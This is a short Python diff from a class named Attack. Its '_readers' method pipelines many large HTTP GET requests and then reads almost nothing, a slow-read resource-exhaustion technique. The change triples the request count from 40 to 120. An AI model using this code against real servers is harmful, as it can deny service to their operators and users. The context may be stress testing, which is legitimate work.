@@ -89,7 +89,7 @@ class Attack:
 
     async def _readers(self, reader, writer):
         """Request more than the two sides can buffer, and read next to nothing."""
-        writer.write(f"GET {self.big} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode() * 40)
+        writer.write(f"GET {self.big} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode() * 120)
         while asyncio.get_running_loop().time() < self.until:
             await asyncio.sleep(self.every)
             try:
